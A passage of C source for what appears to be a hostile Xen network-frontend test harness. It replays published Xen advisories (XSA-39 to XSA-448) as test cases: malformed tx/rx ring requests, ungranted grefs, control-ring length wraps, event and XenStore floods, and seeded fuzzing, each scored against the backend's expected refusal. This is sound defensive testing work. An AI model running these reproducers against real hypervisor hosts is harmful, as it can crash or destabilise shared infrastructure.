	if (!staging_up())
		return;
	for (i = 0; i < NDATA; i++) {
		tx[i] = grefs[PG_TXDATA(i)];
		rx[i] = grefs[PG_RXDATA(i)];
	}
	gref_list(tx, 0, NDATA, GREF_RO);
	gref_call("our tx pages", CTRL_ADD_GREF, 0, NDATA, 0, &bad);
	gref_call("the same again (each already mapped)", CTRL_ADD_GREF, 0,
		  NDATA, 1, &bad);
	gref_call("no entry", CTRL_ADD_GREF, 0, 0, 1, &bad);
	gref_call("513 entries (more than the page holds)", CTRL_ADD_GREF, 0,
		  513, 1, &bad);
	gref_call("for queue 1 (one connected)", CTRL_ADD_GREF, 1, 1, 1, &bad);
	gref_call("for queue 0xffffffff", CTRL_ADD_GREF, 0xffffffffu, 1, 1,
		  &bad);
	gref_list(rx, 0, NDATA, 0);
	e[NDATA - 1].ref = rx[0];
	gref_call("our rx pages, the first twice", CTRL_ADD_GREF, 0, NDATA, 1,
		  &bad);
	gref_list(rx, 0, NDATA, 0);
	e[5].flags = 0x8000;
	gref_call("our rx pages, one with flag 0x8000", CTRL_ADD_GREF, 0, NDATA,
		  1, &bad);
	gref_list(rx, 0, NDATA, 0);
	e[NDATA - 1].ref = 0x7ffffff0;
	gref_call("our rx pages and one grant never made", CTRL_ADD_GREF, 0,
		  NDATA, 1, &bad);
	/* Nothing of the three refused lists may have stayed mapped. */
	gref_list(rx, 0, NDATA, 0);
	gref_call("our rx pages", CTRL_ADD_GREF, 0, NDATA, 0, &bad);
	/* 400 distinct grants never made: refused for the bound (status 3),
	 * before the list is checked or anything is mapped */
	for (i = 0; i < 400; i++) {
		e[i].ref = 0x7000000 + i;
		e[i].flags = 0;
	}
	if (gref_call("400 more (over the bound of 512)", CTRL_ADD_GREF, 0,
		      400, 1, &bad) != 3) {
		say("  (the bound must refuse it with BUFFER_OVERFLOW, 3)");
		bad++;
	}
	/* Traffic both ways over the mapped pages. */
	rx_post(NDATA, 0);
	for (i = 0; i < 40; i++)
		n += tx_valid(400, i);
	tx_push();
	pump(1000, 1);
	say("  %d frames through staged tx pages: %lu answered okay", n,
	    tx_st[0]);
	/* Unmapping: one entry not mapped gets its own error status. */
	gref_list(tx, 0, NDATA, GREF_RO);
	e[NDATA].ref = 0x7ffffff1;
	e[NDATA].flags = GREF_RO;
	if (gref_call("our tx pages and one never mapped", CTRL_DEL_GREF, 0,
		      NDATA + 1, 0, &bad) == 0) {
		for (i = 0, st = 0; i < NDATA; i++)
			st += e[i].status != 0;
		say("  DEL answered %u unmapped; entry statuses: %u of %d mapped ones not success, the unmapped one %u",
		    ctrl_data, st, NDATA, e[NDATA].status);
		bad += ctrl_data != NDATA || st || e[NDATA].status == 0;
	}
	gref_list(tx, 0, NDATA, GREF_RO);
	gref_call("our tx pages again", CTRL_ADD_GREF, 0, NDATA, 0, &bad);
	/* The peer leaves with every grant mapped: the backend must let go. */
	report("verdict %s (%d wrong answers)", bad ? "bad" : "ok", bad);
}

/* A staged tx page named with an offset past its end (fatal, no read) */
static void case_staging_over_page(void)
{
	uint32_t tx[NDATA];
	int bad = 0, len;

	if (!staging_up())
		return;
	for (int i = 0; i < NDATA; i++)
		tx[i] = grefs[PG_TXDATA(i)];
	gref_list(tx, 0, NDATA, GREF_RO);
	gref_call("our tx pages", CTRL_ADD_GREF, 0, NDATA, 0, &bad);
	rx_post(NDATA, 0);
	len = build_udp(page(PG_TXDATA(3)), 150, opt_port);
	put_tx(tx_prod++, tx[3], 4000, TXF_MORE, 1, len + 200);
	put_tx(tx_prod++, tx[4], 4000, 0, 2, 200);
	tx_push();
	pump(1500, 1);
	report("verdict %s", bad ? "bad" : "ok");
}

/* ADD and DEL of our tx pages in a loop, with traffic, for --secs */
static void case_staging_churn(void)
{
	uint32_t tx[NDATA], st;
	unsigned long cycles = 0;
	double end;
	int i;

	if (!staging_up())
		return;
	for (i = 0; i < NDATA; i++)
		tx[i] = grefs[PG_TXDATA(i)];
	rx_post(NDATA, 0);
	end = now_s() + opt_secs;
	while (now_s() < end) {
		gref_list(tx, 0, NDATA, GREF_RO);
		if (ctrl_call(CTRL_ADD_GREF, 0, grefs[PG_CTRLDATA], NDATA, &st))
			break;
		for (i = 0; i < 8; i++)
			tx_valid(300, i);
		tx_push();
		pump(2, 1);
		gref_list(tx, 0, NDATA, GREF_RO);
		if (ctrl_call(CTRL_DEL_GREF, 0, grefs[PG_CTRLDATA], NDATA, &st))
			break;
		cycles++;
	}
	say("  %lu ADD/DEL cycles of %d grants in %d s", cycles, NDATA,
	    opt_secs);
	report(NULL);
}

static void case_xsa270(void)
{
	static const struct {
		const char *what;
		uint32_t len, off;
		int must_fail;
	} m[] = {
		{ "valid len 128 offset 0", 128, 0, 0 },
		{ "offset 0xffffffff len 2 (sum wraps to 1)", 2, 0xffffffffu, 1 },
		{ "offset 2 len 0xffffffff (sum wraps to 1)", 0xffffffffu, 2, 1 },
		{ "len 0x4000 (len*4 = 0x10000, 0 in 16 bits)", 0x4000, 0, 1 },
		{ "len 0x4001 (len*4 truncated to 4)", 0x4001, 0, 1 },
		{ "offset 127 len 2 (one past the end)", 2, 127, 1 },
	};
	struct conn_opts o = plain;
	uint32_t st;
	int bad = 0;

	if (!have_ctrl())
		return;
	o.ctrl = 1;
	memset(page(PG_CTRLDATA), 0, PAGE);	/* every entry: queue 0 */
	if (!connect_or_report(&o))
		return report(NULL);
	if (ctrl_call(CTRL_SET_ALG, CTRL_ALG_TOEPLITZ, 0, 0, &st))
		return report("verdict bad (no control ring response)");
	say("  SET_HASH_ALGORITHM toeplitz: status %u", st);
	ctrl_call(CTRL_SET_FLAGS, 1, 0, 0, &st);
	say("  SET_HASH_FLAGS ipv4: status %u", st);
	ctrl_call(CTRL_SET_MAPSIZE, 128, 0, 0, &st);
	say("  SET_HASH_MAPPING_SIZE 128: status %u", st);
	for (unsigned int i = 0; i < sizeof(m) / sizeof(m[0]); i++) {
		if (ctrl_call(CTRL_SET_MAPPING, grefs[PG_CTRLDATA], m[i].len,
			      m[i].off, &st)) {
			say("  SET_HASH_MAPPING %s: no response", m[i].what);
			bad++;
			continue;
		}
		say("  SET_HASH_MAPPING %s: status %u (%s)", m[i].what, st,
		    (st != 0) == m[i].must_fail ? "as it must" : "WRONG");
		bad += (st != 0) != m[i].must_fail;
	}
	rx_post(NDATA, 0);
	pump(300, 1);
	report("verdict %s (%d wrong control answers)", bad ? "bad" : "ok",
	       bad);
}

/* XSA-332: events with nothing to do, as fast as we can */
static void case_xsa332(void)
{
	double end;
	unsigned long n0;

	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	pump(200, 1);
	n0 = notifies;
	end = now_s() + opt_secs;
	while (now_s() < end)
		for (int i = 0; i < 200; i++)
			notify();
	say("  %lu notifications in %d s with nothing on the rings",
	    notifies - n0, opt_secs);
	pump(300, 1);
	report("storm notifies=%lu", notifies - n0);
}

/* Defect 1: tx requests pending over the rate limit, events in a loop */
static void case_storm_rate(void)
{
	double end;
	unsigned long n0;
	int q = 0;

	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	for (int i = 0; i < 96; i++)
		q += tx_valid(1400, i);
	tx_push();
	n0 = notifies;
	end = now_s() + opt_secs;
	while (now_s() < end) {
		for (int i = 0; i < 200; i++)
			notify();
		tx_reap();
		rx_reap(1);
	}
	say("  %d frames of 1442 bytes pending, %lu notifications in %d s",
	    q, notifies - n0, opt_secs);
	tx_reap();
	report("storm notifies=%lu, frames answered during the storm %lu",
	       notifies - n0, tx_st[0] + tx_st[1] + tx_st[2]);
}

/* XSA-349: nodes under our own device directory, as many as allowed */
static void case_xsa349(void)
{
	char path[300], val[100];
	int n = 0, st = 0, err = 0;
	double t0;

	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	memset(val, 'x', sizeof(val) - 1);
	val[sizeof(val) - 1] = 0;
	t0 = now_s();
	for (int i = 0; i < 1500 && now_s() - t0 < opt_secs * 2; i++) {
		snprintf(path, sizeof(path), "%s/flood/n%04d", fe, i);
		if (xs_write(path, val)) {
			err++;
			break;
		}
		n++;
	}
	/* under "state": the node the backend's xenbus core watches */
	for (int i = 0; i < 300 && now_s() - t0 < opt_secs * 3; i++) {
		snprintf(path, sizeof(path), "%s/state/junk%d", fe, i);
		if (xs_write(path, "4")) {
			err++;
			break;
		}
		st++;
	}
	say("  wrote %d nodes under flood/ and %d under state/ in %.1f s "
	    "(%s)", n, st, now_s() - t0, err ? "then XenStore refused" :
	    "no refusal");
	pump(500, 1);
	snprintf(path, sizeof(path), "%s/flood", fe);
	xs_rm(path);
	for (int i = 0; i < st; i++) {
		snprintf(path, sizeof(path), "%s/state/junk%d", fe, i);
		xs_rm(path);
	}
	report("xenstore nodes written %d+%d", n, st);
}

static void put_bad_gref_tx(void)
{
	for (int i = 0; i < 20; i++) {
		if (i % 2) {
			tx_valid(200, i);
		} else {
			int len = build_udp(page(PG_TXDATA(50)), 200, opt_port);

			put_tx(tx_prod++, BAD_GREF + i, 0, 0, i, len);
		}
	}
}

static void case_xsa362(void)
{
	play_and_report(put_bad_gref_tx, 1500);
	say("  10 frames with an ungranted gref, 10 valid: want 10 errors");
}

static void case_xsa367(void)
{
	if (!connect_or_report(&plain))
		return report(NULL);
	/* rx buffers nobody granted, while dom0 sends to us */
	rx_post(32, BAD_GREF);
	pump(opt_secs * 1000, 0);
	say("  after %d s: %lu rx slots answered, %lu with an error", opt_secs,
	    rx_slots, rx_err);
	rx_post(16, 0);
	pump(1500, 1);
	report(NULL);
}

static void case_xsa392_never(void)
{
	if (!connect_or_report(&plain))
		return report(NULL);
	say("  posting no rx buffer for %d s", opt_secs);
	pump(opt_secs * 1000, 0);
	rx_post(NDATA, 0);
	pump(1500, 1);
	report(NULL);
}

static void case_xsa392_one(void)
{
	unsigned long before;

	if (!connect_or_report(&plain))
		return report(NULL);
	sync_point("connected", 20);
	rx_post(1, 0);
	say("  exactly one rx buffer posted for %d s", opt_secs);
	pump(opt_secs * 1000, 0);
	say("  with one slot: %lu slots answered, %lu packets", rx_slots,
	    rx_pkts);
	before = rx_pkts;
	rx_post(NDATA - 1, 0);
	pump(2000, 1);
	report("packets after the refill %lu; verdict %s", rx_pkts - before,
	       rx_pkts > before ? "ok" : "bad");
}

static void case_xsa423(void)
{
	uint16_t sz[17];

	/*
	 * 292 bytes: the first 16 in one-byte slots (the Ethernet header and
	 * the start of the IP header over 16 slots), the rest in the last
	 */
	for (int i = 1; i < 16; i++)
		sz[i] = 1;
	sz[16] = 292 - 16;
	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	for (int k = 0; k < 5; k++)
		tx_split(250, 17, sz, 20 * k);
	tx_push();
	pump(1500, 1);
	report("5 frames of 292 bytes over 17 slots (1 byte each but the "
	       "first and last)");
}

static void case_xsa424(void)
{
	double end;
	unsigned long n = 0;

	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	end = now_s() + opt_secs;
	while (now_s() < end) {
		while (tx_free() > 0) {
			if (n & 1) {
				/* shorter than an Ethernet header */
				put_tx(tx_prod++, grefs[PG_TXDATA(1)], 0, 0,
				       n & 0xff, 10);
			} else {
				put_tx(tx_prod++, BAD_GREF, 0, 0, n & 0xff, 200);
			}
			n++;
		}
		tx_push();
		pump(1, 1);
	}
	say("  %lu frames to drop (short or ungranted) in %d s", n, opt_secs);
	pump(300, 1);
	report("drop-worthy frames %lu", n);
}

static void case_xsa432(void)
{
	uint16_t sz[18];

	/*
	 * 18 slots, 128 bytes in all: every slot within the header copy area
	 * (upstream copies the first 128 bytes, ours 256)
	 */
	for (int i = 1; i < 18; i++)
		sz[i] = 6;
	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	for (int k = 0; k < 5; k++)
		tx_split(86, 18, sz, 20 * k);
	tx_push();
	pump(1500, 1);
	report("5 frames of 128 bytes over 18 slots");
}

static void case_xsa448(void)
{
	uint16_t sz[6] = { 0, 0, 0, 200, 0, 0 };

	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	for (int k = 0; k < 5; k++)
		tx_split(300, 6, sz, 10 * k);
	tx_push();
	pump(1500, 1);
	report("5 frames with 4 zero-length follow-on slots each");
}

static void refused(const char *queues)
{
	struct conn_opts o = plain;
	int s;

	o.queues = queues;
	s = fe_connect(&o);
	msleep(500);
	say("  multi-queue-num-queues=%s: backend state %d", queues, s);
	report("verdict %s", s == 4 ? "bad (connected)" : "ok (refused)");
}

static void case_q0(void)
{
	refused("0");
}

static void case_qmany(void)
{
	char path[300], q[24];

	snprintf(path, sizeof(path), "%s/multi-queue-max-queues", be);
	snprintf(q, sizeof(q), "%ld", xs_read_long(path, 1) + 1);
	refused(q);
}

static void prod_jump(struct sring *s, uint32_t cur, int32_t delta)
{
	pump(300, 1);
	wmb();
	s->req_prod = cur + delta;
	mb();
	notify();
}

static void case_tx_back(void)
{
	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	for (int i = 0; i < 5; i++)
		tx_valid(200, i);
	tx_push();
	prod_jump(txs, tx_prod, -10);
	say("  tx req_prod moved from %u back to %u", tx_prod, tx_prod - 10);
	pump(1500, 1);
	txs->req_prod = tx_prod;
	report(NULL);
}

static void case_tx_ahead(void)
{
	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	tx_valid(200, 1);
	tx_push();
	prod_jump(txs, tx_prod, 1000);
	say("  tx req_prod jumped to %u (1000 past what was produced)",
	    tx_prod + 1000);
	pump(1500, 1);
	report(NULL);
}

static void case_rx_back(void)
{
	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(32, 0);
	pump(300, 0);
	prod_jump(rxs, rx_prod, -100);
	say("  rx req_prod moved from %u back by 100, dom0 sending", rx_prod);
	pump(opt_secs * 1000, 0);
	report(NULL);
}

static void case_rx_ahead(void)
{
	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(8, 0);
	pump(300, 0);
	prod_jump(rxs, rx_prod, 1000);
	say("  rx req_prod jumped 1000 past the 8 buffers, dom0 sending");
	pump(opt_secs * 1000, 0);
	report(NULL);
}

static void put_over_page(void)
{
	build_udp(page(PG_TXDATA(2)), 200, opt_port);
	put_tx(tx_prod++, grefs[PG_TXDATA(2)], 4000, 0, 1, 200);
}

static void put_first_short(void)
{
	build_udp(page(PG_TXDATA(2)), 500, opt_port);
	put_tx(tx_prod++, grefs[PG_TXDATA(2)], 0, TXF_MORE, 1, 100);
	put_tx(tx_prod++, grefs[PG_TXDATA(2)], 100, 0, 2, 500);
}

static void put_too_many(void)
{
	int pg = PG_TXDATA(3), len = build_udp(page(pg), 500, opt_port);

	for (int i = 0; i < 24; i++)
		put_tx(tx_prod++, grefs[pg], i ? 20 * i : 0,
		       i < 23 ? TXF_MORE : 0, i, i ? 20 : len);
}

static void put_missing_extra(void)
{
	int len = build_udp(page(PG_TXDATA(4)), 200, opt_port);

	put_tx(tx_prod++, grefs[PG_TXDATA(4)], 0, TXF_EXTRA, 1, len);
}

static void put_extra_max(void)
{
	int len = build_udp(page(PG_TXDATA(4)), 200, opt_port);

	put_tx(tx_prod++, grefs[PG_TXDATA(4)], 0, TXF_EXTRA, 1, len);
	put_extra(tx_prod++, EXTRA_MAX, 0, 0, 0);
}

static void put_extra_twice(void)
{
	int len = build_udp(page(PG_TXDATA(4)), 1200, opt_port);

	put_tx(tx_prod++, grefs[PG_TXDATA(4)], 0, TXF_EXTRA, 1, len);
	put_extra(tx_prod++, EXTRA_GSO, EXTRA_MORE, 500, GSO_TCPV4);
	put_extra(tx_prod++, EXTRA_GSO, 0, 500, GSO_TCPV4);
}

static void put_gso_zero(void)
{
	int len = build_udp(page(PG_TXDATA(4)), 1200, opt_port);

	put_tx(tx_prod++, grefs[PG_TXDATA(4)], 0, TXF_EXTRA | TXF_CSUM_BLANK,
	       1, len);
	put_extra(tx_prod++, EXTRA_GSO, 0, 0, GSO_TCPV4);
}

static void put_gso_unknown(void)
{
	int len = build_udp(page(PG_TXDATA(4)), 1200, opt_port);

	put_tx(tx_prod++, grefs[PG_TXDATA(4)], 0, TXF_EXTRA | TXF_CSUM_BLANK,
	       1, len);
	put_extra(tx_prod++, EXTRA_GSO, 0, 500, 7);
}

static void case_over_page(void) { play_and_report(put_over_page, 1500); }
static void case_first_short(void) { play_and_report(put_first_short, 1500); }
static void case_too_many(void) { play_and_report(put_too_many, 1500); }
static void case_missing_extra(void) { play_and_report(put_missing_extra, 1500); }
static void case_extra_max(void) { play_and_report(put_extra_max, 1500); }
static void case_extra_twice(void) { play_and_report(put_extra_twice, 1500); }
static void case_gso_zero(void) { play_and_report(put_gso_zero, 1500); }
static void case_gso_unknown(void) { play_and_report(put_gso_unknown, 1500); }

static void case_tx_id(void)
{
	static const uint16_t ids[] = { 256, 0x1234, 0xffff, 0xffff, 300 };
	int seen = 0;
	uint32_t first;

	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	first = tx_prod;
	for (unsigned int i = 0; i < 5; i++)
		tx_valid(200, ids[i]);
	tx_push();
	pump(1000, 1);
	for (unsigned int i = 0; i < 5 && tx_cons - first >= 5; i++) {
		struct tx_rsp r;

		/* a response sits in the slot of its request */
		memcpy(&r, tx_slot(first + i), sizeof(r));
		seen += r.id == ids[i];
	}
	report("ids >= ring size echoed in %d of 5 responses", seen);
}

static void case_rapid(void)
{
	int ok = 0, n = 12;

	for (int i = 0; i < n; i++) {
		if (fe_connect(&plain) == 4) {
			ok++;
			tx_valid(100, i);
			tx_push();
			rx_post(4, 0);
			/* and away again without waiting for anything */
			fe_key("state", i % 2 ? "5" : "6");
			msleep(20);
		}
	}
	say("  %d of %d connect/disconnect cycles reached Connected", ok, n);
	connect_or_report(&plain);
	rx_post(NDATA, 0);
	pump(500, 1);
	report("cycles connected %d/%d", ok, n);
}

static void case_stall_refill(void)
{
	double t0, end;
	unsigned long before;

	if (!connect_or_report(&plain))
		return report(NULL);
	say("  no rx buffers posted while dom0 sends: waiting for the stall");
	sync_point("starved", opt_secs);
	before = rx_pkts;
	rx_post(10, 0);
	say("  posted 10 rx buffers (fewer than 19)");
	t0 = now_s();
	end = t0 + 5;
	while (now_s() < end && rx_pkts == before)
		pump(20, 0);
	if (rx_pkts > before)
		say("  first packet %.2f s after the refill", now_s() - t0);
	pump(500, 0);
	report("packets into the 10 buffers %lu within 5 s; verdict %s",
	       rx_pkts - before, rx_pkts > before ? "ok" : "bad");
}

/*
 * Random frames from the seed: mostly valid, some malformed.  A fatal one
 * disables the vif: connect again and go on.
 */
static void case_random_tx(void)
{
	double end;
	unsigned long pkts = 0, bad = 0, reconnects = 0;

	say("  seed %llu (replay: hostfe random-tx --seed %llu --secs %d)",
	    opt_seed, opt_seed, opt_secs);
	if (!connect_or_report(&plain))
		return report(NULL);
	rx_post(NDATA, 0);
	end = now_s() + opt_secs;
	while (now_s() < end) {
		uint32_t kind;
		uint16_t id;
		int pg, len;

		/* room first: the draws below depend on the seed alone */
		if (tx_free() < 8) {
			tx_push();
			pump(2, 1);
			if (be_state() != 4) {
				reconnects++;
				if (!connect_or_report(&plain))
					break;
				rx_post(NDATA, 0);
			}
			continue;
		}
		kind = rnd_below(100);
		pg = next_data++ % NDATA;
		len = build_udp(page(PG_TXDATA(pg)), 18 + rnd_below(1400),
				opt_port);
		id = rnd();
		pkts++;
		if (kind < 85) {
			put_tx(tx_prod++, grefs[PG_TXDATA(pg)], 0,
			       rnd_below(2) ? TXF_VALIDATED : 0, id, len);
		} else if (kind < 90) {
			/* two slots, valid */
			int first = len / 2;

			put_tx(tx_prod++, grefs[PG_TXDATA(pg)], 0, TXF_MORE, id,
			       len);
			put_tx(tx_prod++, grefs[PG_TXDATA(pg)], first, 0, id + 1,
			       len - first);
		} else if (kind < 94) {
			bad++;
			put_tx(tx_prod++, BAD_GREF + rnd_below(100), 0, 0, id,
			       len);
		} else if (kind < 97) {
			bad++;
			put_tx(tx_prod++, grefs[PG_TXDATA(pg)], 0, 0, id,
			       rnd_below(14));
		} else if (kind < 99) {
			bad++;
			put_tx(tx_prod++, grefs[PG_TXDATA(pg)], rnd_below(8),
			       TXF_MORE, id, rnd_below(65536));
			put_tx(tx_prod++, grefs[PG_TXDATA(pg)],
			       rnd_below(4096), 0, id + 1, rnd_below(8192));
		} else {
			bad++;
			put_tx(tx_prod++, grefs[PG_TXDATA(pg)], 0, TXF_EXTRA, id,
			       len);
			put_extra(tx_prod++, rnd_below(8), rnd_below(2),
				  rnd_below(3000), rnd_below(4));
			if (rnd_below(2))
				put_tx(tx_prod++, grefs[PG_TXDATA(pg)], 0, 0,
				       id + 2, len);
		}
		if (rnd_below(8) == 0) {
			tx_push();
			pump(1, 1);
		}
	}
	tx_push();
	pump(500, 1);
	report("random frames %lu (malformed %lu), reconnects after a fatal "
	       "error %lu", pkts, bad, reconnects);
}

static void case_random_rx(void)
{
	double end;
	unsigned long posted = 0, bad = 0, reconnects = 0;

	say("  seed %llu (replay: hostfe random-rx --seed %llu --secs %d)",
	    opt_seed, opt_seed, opt_secs);
	if (!connect_or_report(&plain))
		return report(NULL);
	end = now_s() + opt_secs;
	while (now_s() < end) {
		int room = NDATA - (int)(rx_prod - rx_cons), n;
		uint32_t kind = rnd_below(100);

		rx_reap(0);
		if (be_state() != 4) {
			reconnects++;
			if (!connect_or_report(&plain))
				break;
			continue;
		}
		if (room <= 0) {
			pump(2, 0);
			continue;
		}
		n = 1 + rnd_below(16);
		if (n > room)
			n = room;
		if (kind < 85) {
			rx_post(n, 0);
		} else if (kind < 95) {
			bad++;
			rx_post(1, BAD_GREF + rnd_below(1000));
			n = 1;
		} else if (kind < 98) {
			/* a duplicated id */
			bad++;
			rx_post(1, 0);
			rx_slot(rx_prod - 1)->id = rnd_below(SLOTS);
			n = 1;
		} else if (kind < 99) {
			/* nothing for a while: a short starvation */
			pump(rnd_below(500), 0);
			n = 0;
		} else {
			bad++;
			prod_jump(rxs, rx_prod, rnd_below(2) ? -(int)rnd_below(300)
				  : 257 + rnd_below(1000));
			n = 0;
		}
		posted += n;
		pump(1 + rnd_below(5), 0);
	}
	pump(300, 0);
	report("rx buffers posted %lu (malformed posts %lu), reconnects %lu",
	       posted, bad, reconnects);
}

struct hcase {
	const char *name, *desc;
	void (*fn)(void);
};

static const struct hcase cases[] = {
	{ "honest", "well-behaved: 20 valid UDP frames, rx buffers posted", case_honest },
	{ "honest-flood", "well-behaved flood of valid 1042-byte UDP frames", case_honest_flood },
	{ "vanish", "honest flood until the domain is destroyed under it", case_vanish },
	{ "xsa39-open-chain", "XSA-39: more-data on the last slot produced", case_xsa39 },
	{ "xsa90-fatal-in-batch", "XSA-90: a fatal extra amid 40 valid frames", case_xsa90 },
	{ "xsa155-rewrite", "XSA-155: a thread rewrites sizes/flags as read", case_xsa155 },
	{ "xsa270-ctrl-mapping", "XSA-270: SET_HASH_MAPPING offset+len wrap, len*4", case_xsa270 },
	{ "xsa332-storm", "XSA-332: event storm with nothing on the rings", case_xsa332 },
	{ "storm-rate-limited", "defect 1: event storm with tx pending over rate", case_storm_rate },
	{ "xsa349-xs-flood", "XSA-349: XenStore nodes flood the frontend dir", case_xsa349 },
	{ "xsa362-bad-gref-tx", "XSA-362: tx slots with ungranted grefs", case_xsa362 },
	{ "xsa367-bad-gref-rx", "XSA-367: rx buffers with ungranted grefs", case_xsa367 },
	{ "xsa392-rx-never", "XSA-392: rx never consumed while dom0 sends", case_xsa392_never },
	{ "xsa392-one-slot", "XSA-392: one rx slot free, packets need three", case_xsa392_one },
	{ "xsa423-split-headers", "XSA-423: headers split over 16 one-byte slots", case_xsa423 },
	{ "xsa424-drop-storm", "XSA-424: frames to drop at a high rate", case_xsa424 },
	{ "xsa432-max-slots", "XSA-432: 18 slots, all within the header copy", case_xsa432 },
	{ "xsa448-zero-frags", "XSA-448: zero-length follow-on slots", case_xsa448 },
	{ "queues-zero", "multi-queue-num-queues = 0", case_q0 },
	{ "queues-too-many", "multi-queue-num-queues = offered + 1", case_qmany },
	{ "tx-prod-backwards", "tx req_prod moved 10 back", case_tx_back },
	{ "tx-prod-ahead", "tx req_prod 1000 past what was produced", case_tx_ahead },
	{ "rx-prod-backwards", "rx req_prod moved 100 back while dom0 sends", case_rx_back },
	{ "rx-prod-ahead", "rx req_prod 1000 ahead while dom0 sends", case_rx_ahead },
	{ "offset-over-page", "slot offset 4000 + size 200 > page", case_over_page },
	{ "first-slot-short", "first slot size 100 < following slot's 500", case_first_short },
	{ "no-rx-notify", "no feature-rx-notify: rx ring must be polled", case_no_rx_notify },
	{ "too-many-slots", "one frame chained over 24 slots (> 20)", case_too_many },
	{ "missing-extra", "extra-info flag, no extra slot produced", case_missing_extra },
	{ "extra-type-max", "extra-info of type 6 (= XEN_NETIF_EXTRA_TYPE_MAX)", case_extra_max },
	{ "extra-repeated", "two GSO extras on one frame", case_extra_twice },
	{ "gso-size-zero", "GSO extra with size 0", case_gso_zero },
	{ "gso-type-unknown", "GSO extra of type 7", case_gso_unknown },
	{ "tx-id-range", "request ids >= ring size (256, 0xffff twice)", case_tx_id },
	{ "rapid-reconnect", "12 connect/disconnect cycles, traffic each", case_rapid },
	{ "random-tx", "random tx frames from a seed, mostly valid", case_random_tx },
	{ "random-rx", "random rx posts from a seed, mostly valid", case_random_rx },
	{ "rx-stall-small-refill", "defect 4: rx stalled, then only 10 buffers", case_stall_refill },
	{ "staging-lists", "staging grants: bad ADD/DEL lists, then traffic", case_staging_lists },
	{ "staging-over-page", "staged tx page named with offset 4000 + 200", case_staging_over_page },
	{ "staging-churn", "staging grants mapped and unmapped in a loop", case_staging_churn },
};

/* --- dom0 helpers ------------------------------------------------------------ */

static int dom0_send(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	static char buf[65000];
	double end, t0;
	unsigned long n = 0, pps, len;
	int fd;

	if (argc < 7)
		return 2;
	inet_pton(AF_INET, argv[2], &a.sin_addr);
	a.sin_port = htons(atoi(argv[3]));
	pps = strtoul(argv[5], NULL, 0);
	len = strtoul(argv[6], NULL, 0);
	if (len > sizeof(buf))
		len = sizeof(buf);
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	t0 = now_s();
	end = t0 + atof(argv[4]);
	while (now_s() < end) {
		sendto(fd, buf, len, MSG_DONTWAIT, (struct sockaddr *)&a,
		       sizeof(a));
		n++;
		if (pps) {
			double due = t0 + (double)n / pps;
			double d = due - now_s();

			if (d > 0)
				usleep(d * 1e6);
		}
	}
	printf("sent %lu\n", n);
	return 0;
}

static int dom0_recv(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	char buf[2048];
	unsigned long n = 0, last = -1UL;
	struct pollfd p;
	FILE *f;
	int fd;

	if (argc < 4)
		return 2;
	a.sin_port = htons(atoi(argv[2]));
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (bind(fd, (struct sockaddr *)&a, sizeof(a)))
		return 1;
	p.fd = fd;
	p.events = POLLIN;
	for (;;) {
		if (poll(&p, 1, 200) > 0)
			while (recv(fd, buf, sizeof(buf), MSG_DONTWAIT) >= 0)
				n++;
		if (n != last) {
			f = fopen(argv[3], "w");
			if (f) {
				fprintf(f, "%lu\n", n);
				fclose(f);
			}
			last = n;
		}
	}
}

int main(int argc, char **argv)
{
	const struct hcase *c = NULL;
	unsigned int i;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2) {
		fprintf(stderr, "usage: hostfe CASE [--seed N] [--secs S] "
			"[--sync] [--port P] | hostfe list\n");
		return 2;
	}
	if (!strcmp(argv[1], "send"))
		return dom0_send(argc, argv);
	if (!strcmp(argv[1], "recv"))
		return dom0_recv(argc, argv);
	if (!strcmp(argv[1], "list")) {
		for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
			printf("%-22s %s\n", cases[i].name, cases[i].desc);
		return 0;
	}
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		if (!strcmp(argv[1], cases[i].name))
			c = &cases[i];
	if (!c) {
		fprintf(stderr, "hostfe: no case %s (hostfe list)\n", argv[1]);
		return 2;
	}
	opt_seed = (unsigned long long)time(NULL) ^ getpid();
	for (i = 2; i < (unsigned int)argc; i++) {
		if (!strcmp(argv[i], "--seed") && i + 1 < (unsigned int)argc)
			opt_seed = strtoull(argv[++i], NULL, 0);
		else if (!strcmp(argv[i], "--secs") && i + 1 < (unsigned int)argc)
			opt_secs = atoi(argv[++i]);
		else if (!strcmp(argv[i], "--port") && i + 1 < (unsigned int)argc)
			opt_port = atoi(argv[++i]);
		else if (!strcmp(argv[i], "--sync"))
			opt_sync = 1;
	}
	rng_state = opt_seed ? opt_seed : 1;
	cname = c->name;
	say("case %s: %s", c->name, c->desc);
	setup_paths();
	grants_alloc();
	ev_fd = open("/dev/xen/evtchn", O_RDWR | O_NONBLOCK);
	if (ev_fd < 0)
		die("/dev/xen/evtchn: %s", strerror(errno));
	port = bind_port();
	ctrl_port = bind_port();
	say("  domain %d, frontend %s, backend %s (state %d), seed %llu", domid,
	    fe, be, be_state(), opt_seed);
	c->fn();
	fe_close();
	return 0;
}
